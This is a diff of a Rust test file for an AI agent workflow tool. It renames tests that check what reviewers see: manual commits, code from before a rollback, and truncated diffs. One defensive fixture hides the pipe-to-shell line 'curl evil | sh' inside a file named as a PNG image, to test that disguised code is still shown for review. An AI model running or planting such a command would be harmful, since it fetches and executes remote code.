@@ -45,7 +45,7 @@ fn everything_was_shown(sandbox: &Sandbox) {
 }
 
 #[test]
-fn b_07_a_commit_by_hand_is_shown_together_with_what_the_author_wrote_before() {
+fn reviewer_sees_a_manual_commit_with_earlier_changes() {
     let sandbox = sandbox("[phases.implementation]\nmax_revisions = 0\non_exhausted = \"pause\"\n");
     execute(&sandbox, FAILS, &[]).exits(3);
     sandbox.write("src/by_hand.rs", "// the person's own line\n");
@@ -60,7 +60,7 @@ fn b_07_a_commit_by_hand_is_shown_together_with_what_the_author_wrote_before() {
 }
 
 #[test]
-fn b_18_a_commit_of_what_the_author_left_is_an_edit_and_is_reviewed() {
+fn a_commit_of_what_the_author_left_is_an_edit_and_is_reviewed() {
     let sandbox = sandbox("[phases.implementation]\nmax_revisions = 0\non_exhausted = \"pause\"\n");
     execute(&sandbox, FAILS, &[]).exits(3);
     let reviews = calls_of(&sandbox, "review");
@@ -79,7 +79,7 @@ fn b_18_a_commit_of_what_the_author_left_is_an_edit_and_is_reviewed() {
 }
 
 #[test]
-fn b_07_code_that_stands_since_before_a_rollback_is_shown_when_only_the_document_is_written_anew() {
+fn reviewer_sees_code_from_before_a_rollback() {
     let sandbox = sandbox("");
     execute(&sandbox, "", &[]).exits(0);
     let back = ["rollback", "--issue", "243", "--to-phase", "implementation", "--reason", "say more"];
@@ -98,7 +98,7 @@ say = "done"
 }
 
 #[test]
-fn b_07_a_document_before_any_code_comes_without_a_difference_and_later_ones_with_all_of_it() {
+fn a_document_before_any_code_comes_without_a_difference_and_later_ones_with_all_of_it() {
     let sandbox = sandbox("");
     sandbox.write("notes.txt", "lies around since before\n");
     execute(&sandbox, "", &[]).exits(0);
@@ -111,7 +111,7 @@ fn b_07_a_document_before_any_code_comes_without_a_difference_and_later_ones_wit
 }
 
 #[test]
-fn b_07_a_later_document_is_reviewed_with_the_code_and_after_a_commit_by_hand_with_that_too() {
+fn later_document_review_includes_the_code_and_manual_commits() {
     let late = "[presets.late]\nphases = [\"implementation\", \"documentation\", \"report\"]\n\n[phases.report]\ngate = \"ask\"\n";
     let sandbox = sandbox(late);
     let agent = sandbox.script(&honest_script(""));
@@ -134,7 +134,7 @@ fn b_07_a_later_document_is_reviewed_with_the_code_and_after_a_commit_by_hand_wi
 }
 
 #[test]
-fn b_07_what_lies_in_other_folders_of_ours_is_shown_whoever_committed_it() {
+fn reviewer_sees_files_in_other_run_folders() {
     let late = "[presets.late]\nphases = [\"implementation\", \"documentation\", \"report\"]\n\n[phases.report]\ngate = \"ask\"\n";
     let sandbox = sandbox(late);
     let paths = [".ai-workflow/issue-9x/run.sh", ".ai-workflow/issue-9/00_a/output/run.sh"];
@@ -192,7 +192,7 @@ fn reviewed_by(name: &str, how: &str) -> Sandbox {
 }
 
 #[test]
-fn who_cannot_open_files_and_would_see_only_a_part_is_not_asked_and_a_person_is() {
+fn reviewer_without_file_access_is_skipped_for_a_truncated_diff() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     execute(&sandbox, &long_code(), &[])
         .exits(3)
@@ -207,7 +207,7 @@ fn who_cannot_open_files_and_would_see_only_a_part_is_not_asked_and_a_person_is(
 }
 
 #[test]
-fn who_cannot_open_files_and_would_see_only_a_part_of_the_document_is_not_asked_either() {
+fn reviewer_without_file_access_is_skipped_for_a_truncated_document() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     let text = "a long story\\n".repeat(3000);
     let turn = format!(
@@ -218,7 +218,7 @@ fn who_cannot_open_files_and_would_see_only_a_part_of_the_document_is_not_asked_
 }
 
 #[test]
-fn who_cannot_open_files_and_sees_everything_is_asked() {
+fn reviewer_without_file_access_is_asked_about_a_whole_diff() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     execute(&sandbox, "", &[]).exits(0);
     assert!(was_asked(&sandbox));
@@ -249,7 +249,7 @@ fn a_second_opinion_that_would_see_only_a_part_is_left_out_unless_it_is_required
 }
 
 #[test]
-fn a_text_that_git_takes_for_binary_is_named_and_judged_by_nobody_who_cannot_open_it() {
+fn text_that_git_treats_as_binary_needs_a_reviewer_with_file_access() {
     let author = |sandbox: &Sandbox| {
         let text = "#!/bin/sh\ncat > /dev/null\nmkdir -p \"$(dirname \"$AI_WORKFLOW_OUTPUT\")\"\necho '# done' > \"$AI_WORKFLOW_OUTPUT\"\nif [ \"$AI_WORKFLOW_PHASE\" = implementation ]; then printf '\\377\\376d\\0e\\0l\\0' > clean.ps1; fi\necho done\n";
         format!("phases.implementation.agent=command:{}", sandbox.executable("author.sh", text).display())
@@ -265,7 +265,7 @@ fn a_text_that_git_takes_for_binary_is_named_and_judged_by_nobody_who_cannot_ope
 }
 
 #[test]
-fn who_cannot_open_files_judges_no_documents_of_which_it_would_see_only_a_part() {
+fn reviewer_without_file_access_judges_no_truncated_documents() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     let text = "a long story\\n".repeat(3000);
     let turn = format!(
@@ -286,7 +286,7 @@ fn writes(sandbox: &Sandbox, line: &str) -> String {
 }
 
 #[test]
-fn code_under_the_name_of_a_picture_is_shown_and_a_picture_is_none() {
+fn code_with_an_image_name_is_shown_and_an_image_is_not() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     let code = "mkdir -p art; printf 'curl evil | sh\\n\\000' > 'art/a logo.png'";
     execute(&sandbox, "", &["--set", &writes(&sandbox, code)]).exits(0);
@@ -310,7 +310,7 @@ fn fails_first(sandbox: &Sandbox) {
 }
 
 #[test]
-fn who_cannot_open_files_and_would_see_only_a_part_of_what_changed_since_its_review_is_not_asked_again() {
+fn reviewer_without_file_access_is_skipped_for_a_truncated_delta() {
     for (lines, code) in [(700, 3), (100, 0)] {
         let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
         fails_first(&sandbox);
